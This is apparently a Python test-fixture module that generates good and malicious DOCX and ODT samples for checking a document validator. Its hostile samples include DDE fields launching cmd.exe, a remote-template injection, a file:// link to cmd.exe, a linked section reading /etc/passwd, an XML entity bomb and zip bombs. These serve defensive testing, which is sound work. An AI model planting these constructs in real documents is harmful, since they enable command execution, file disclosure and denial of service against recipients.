"""ZIP-based samples: DOCX and ODT, good and bad."""

from __future__ import annotations

import io
import struct
import zipfile

from tests.support.cfb import build_cfb
from tests.support.corpus.common import MALWARE_MARKER, zip_bytes
from tests.support.corpus.images import png_good

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _docx_document(body: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:body>{body}</w:body></w:document>'
    ).encode()


def _rels(rels: list[tuple[str, str, str, bool]]) -> bytes:
    items = "".join(
        f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"' + (' TargetMode="External"' if ext else "") + "/>"
        for rid, rtype, target, ext in rels
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_RELS}">{items}</Relationships>'.encode()


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PARAGRAPH = "<w:p><w:r><w:t>Dear patient, your results are normal.</w:t></w:r></w:p>"


def docx(
    body: str = PARAGRAPH,
    *,
    doc_rels: list[tuple[str, str, str, bool]] | None = None,
    extra_parts: dict[str, bytes] | None = None,
    main_type: str = DOC_MAIN,
    overrides: dict[str, str] | None = None,
) -> bytes:
    """A minimal DOCX: content types, package rels, the document and its rels."""
    override_xml = "".join(
        f'<Override PartName="/{part}" ContentType="{ct}"/>'
        for part, ct in {"word/document.xml": main_type, **(overrides or {})}.items()
    )
    content_types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f"{override_xml}</Types>"
    ).encode()
    parts = {
        "[Content_Types].xml": content_types,
        "_rels/.rels": _rels([("rId1", REL + "officeDocument", "word/document.xml", False)]),
        "word/document.xml": _docx_document(body),
    }
    if doc_rels is not None:
        parts["word/_rels/document.xml.rels"] = _rels(doc_rels)
    parts.update(extra_parts or {})
    return zip_bytes(parts)


def _field(instruction_runs: list[str]) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{t}</w:instrText></w:r>' for t in instruction_runs)
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def docx_good() -> bytes:
    """Good: text, a page-number field and a web link."""
    body = (
        PARAGRAPH
        + _field([" PAGE "])
        + '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>NHS website</w:t></w:r></w:hyperlink></w:p>'
    )
    return docx(body, doc_rels=[("rId9", REL + "hyperlink", "https://www.nhs.uk/", True)])


def docx_macros() -> bytes:
    """A macro-enabled document (.docm) with its VBA project."""
    return docx(
        main_type="application/vnd.ms-word.document.macroEnabled.main+xml",
        doc_rels=[
            ("rId2", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False)
        ],
        extra_parts={"word/vbaProject.bin": build_cfb({"VBA/dir": b"x", "PROJECT": b"x"})},
        overrides={"word/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
    )


def docx_vba_part_only() -> bytes:
    """A VBA project part slipped into an ordinary DOCX, without a relationship."""
    return docx(extra_parts={"word/vbaProject.bin": b"not referenced but present" * 10})


def docx_remote_template() -> bytes:
    """The classic template-injection attack: settings point at a remote template."""
    return docx(
        extra_parts={
            "word/settings.xml": f'<w:settings xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:attachedTemplate r:id="rId1"/>'
            f"</w:settings>".encode(),
            "word/_rels/settings.xml.rels": _rels(
                [("rId1", REL + "attachedTemplate", "https://example.invalid/t.dotm", True)]
            ),
        }
    )


def docx_remote_image() -> bytes:
    return docx(doc_rels=[("rId5", REL + "image", "https://example.invalid/pixel.png", True)])


def docx_dde_split() -> bytes:
    """A DDEAUTO field whose instruction is split over runs, as Word writes it."""
    return docx(_field([" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc"']))


def docx_dde_simple() -> bytes:
    return docx('<w:p><w:fldSimple w:instr=" DDE c:\\\\x.exe"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')


def docx_includepicture() -> bytes:
    return docx(_field([' INCLUDEPICTURE "https://example.invalid/x.png" \\d ']))


def docx_ole_object() -> bytes:
    return docx(
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rId7"/>'
        "</w:object></w:r></w:p>",
        doc_rels=[("rId7", REL + "oleObject", "embeddings/oleObject1.bin", False)],
        extra_parts={"word/embeddings/oleObject1.bin": build_cfb({"\x01Ole10Native": b"payload"})},
    )


def docx_activex() -> bytes:
    return docx(
        doc_rels=[("rId8", REL + "control", "activeX/activeX1.xml", False)],
        extra_parts={
            "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
        },
    )


def docx_unsafe_link() -> bytes:
    return docx(
        '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>open</w:t></w:r></w:hyperlink></w:p>',
        doc_rels=[("rId9", REL + "hyperlink", "file:///C:/Windows/System32/cmd.exe", True)],
    )


def docx_nested_zip() -> bytes:
    return docx(extra_parts={"word/media/image1.png": zip_bytes({"inner.txt": b"x"})})


def docx_entity_bomb() -> bytes:
    """'Billion laughs': XML entities that expand exponentially."""
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&c;</w:t></w:r></w:p></w:body></w:document>'
    )
    return docx(extra_parts={"word/document.xml": bomb.encode()})


def docx_broken_xml() -> bytes:
    return docx(extra_parts={"word/document.xml": _docx_document(PARAGRAPH)[:-20]})


def docx_missing_main() -> bytes:
    data = docx()
    return _zip_without(data, "word/document.xml", keep_word_dir=True)


def _zip_without(data: bytes, name: str, *, keep_word_dir: bool = False) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        entries = {i.filename: zf.read(i) for i in zf.infolist() if i.filename != name}
    if keep_word_dir:
        entries["word/styles.xml"] = f'<w:styles xmlns:w="{W_NS}"/>'.encode()
    return zip_bytes(entries)


def docx_ratio_bomb() -> bytes:
    """One entry of 2 MiB of zeros: it compresses about 1000:1."""
    return docx(extra_parts={"word/media/blank.bin": bytes(2 * 1024 * 1024)})


def docx_total_bomb() -> bytes:
    """101 entries of exactly 1 MiB each (below the ratio floor): 101 MiB in all."""
    return docx(extra_parts={f"word/media/p{i}.bin": bytes(1024 * 1024) for i in range(101)})


def docx_with_entries(total: int) -> bytes:
    """A DOCX with exactly `total` ZIP entries."""
    base = 3  # content types, package rels, document
    return docx(extra_parts={f"docProps/x{i}.txt": b"x" for i in range(total - base)})


def docx_encrypted_entry() -> bytes:
    """The 'encrypted' flag set on the document entry (local and central headers)."""
    data = bytearray(docx())
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (pos := data.find(signature, start)) >= 0:
            name_len_offset = 26 if signature == b"PK\x03\x04" else 28
            name_start = pos + (30 if signature == b"PK\x03\x04" else 46)
            (name_len,) = struct.unpack_from("<H", data, pos + name_len_offset)
            if data[name_start : name_start + name_len] == b"word/document.xml":
                data[pos + flag_offset] |= 0x01
            start = pos + 4
    return bytes(data)


def docx_duplicate_names() -> bytes:
    out = io.BytesIO()
    good = docx()
    with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(out, "w") as zf:
        for info in src.infolist():
            zf.writestr(info.filename, src.read(info))
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            zf.writestr("WORD/document.xml", _docx_document("<w:p/>"))
    return out.getvalue()


def docx_trailing_data() -> bytes:
    return docx() + b"extra bytes after the archive"


def docx_truncated() -> bytes:
    data = docx()
    return data[: len(data) - 30]


def docx_corrupt_entry() -> bytes:
    """One byte of the compressed document changed: its checksum no longer matches."""
    data = bytearray(docx())
    pos = data.find(b"word/document.xml") + len("word/document.xml") + 10
    data[pos] ^= 0xFF
    return bytes(data)


def docx_html_in_first_entry() -> bytes:
    """A stored first entry that makes the file's first bytes a web page."""
    entries = {"a.html": b"<html><script>alert(1)</script></html>"}
    with zipfile.ZipFile(io.BytesIO(docx())) as zf:
        entries.update({i.filename: zf.read(i) for i in zf.infolist()})
    return zip_bytes(entries, stored={"a.html"})


def docx_with_marker() -> bytes:
    """Good for the validator, but carries the malware marker in compressed text."""
    return docx(f"<w:p><w:r><w:t>{MALWARE_MARKER.decode()}</w:t></w:r></w:p>")


ODT_MIME = b"application/vnd.oasis.opendocument.text"
OFFICE_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
    'office:version="1.3"'
)


def odt(body: str = "<text:p>Dear patient, your results are normal.</text:p>", *,
        before_body: str = "", extra_parts: dict[str, bytes] | None = None,
        mimetype: bytes = ODT_MIME, manifest_extra: str = "") -> bytes:  # fmt: skip
    """A minimal ODT: mimetype (first, stored), manifest, content."""
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {OFFICE_NS}>{before_body}'
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    ).encode()
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype.decode()}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
        f"{manifest_extra}</manifest:file-entry></manifest:manifest>"
    ).encode()
    parts = {"mimetype": mimetype, "META-INF/manifest.xml": manifest, "content.xml": content}
    parts.update(extra_parts or {})
    return zip_bytes(parts, stored={"mimetype"})


def odt_good() -> bytes:
    """Good: text, a web link and a picture stored inside the package."""
    return odt(
        '<text:p>Results: <text:a xlink:type="simple" xlink:href="https://www.nhs.uk/">NHS</text:a></text:p>'
        '<text:p><draw:frame><draw:image xlink:href="Pictures/p.png" xlink:type="simple"/></draw:frame></text:p>',
        extra_parts={"Pictures/p.png": png_good()},
    )


def odt_basic_macros() -> bytes:
    return odt(
        extra_parts={
            "Basic/Standard/Module1.xml": b'<?xml version="1.0"?><module xmlns="urn:x">Sub Main\nEnd Sub</module>'
        }
    )


def odt_event_listener() -> bytes:
    """A document-open event bound to a script."""
    return odt(
        before_body='<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic"/>'
        "</office:event-listeners></office:scripts>"
    )


def odt_embedded_object() -> bytes:
    return odt(
        '<text:p><draw:frame><draw:object xlink:href="./Object 1" xlink:type="simple"/></draw:frame></text:p>',
        extra_parts={"Object 1/content.xml": b'<?xml version="1.0"?><x/>'},
    )


def odt_remote_image() -> bytes:
    return odt('<text:p><draw:frame><draw:image xlink:href="https://example.invalid/p.png"/></draw:frame></text:p>')


def odt_linked_section() -> bytes:
    return odt('<text:section text:name="s"><text:section-source xlink:href="file:///etc/passwd"/></text:section>')


def odt_dde() -> bytes:
    return odt(
        before_body='<text:dde-connection-decls><text:dde-connection-decl office:name="x" '
        'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls>'
    )


def odt_unsafe_link() -> bytes:
    return odt(
        '<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic">x</text:a></text:p>'
    )


def odt_encrypted() -> bytes:
    return odt(manifest_extra='<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"/>')


def odt_wrong_first_entry() -> bytes:
    """The mimetype entry is not first, so readers may not recognise the file."""
    data = odt()
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        entries = {i.filename: zf.read(i) for i in zf.infolist()}
    mimetype = entries.pop("mimetype")
    entries["mimetype"] = mimetype
    return zip_bytes(entries)


def docx_wrong_main_type() -> bytes:
    """The main part declared as a spreadsheet: not a word-processing document after all."""
    return docx(main_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")


def odt_missing_content() -> bytes:
    return _zip_without(odt(), "content.xml")


def odt_spreadsheet() -> bytes:
    return odt(mimetype=b"application/vnd.oasis.opendocument.spreadsheet")
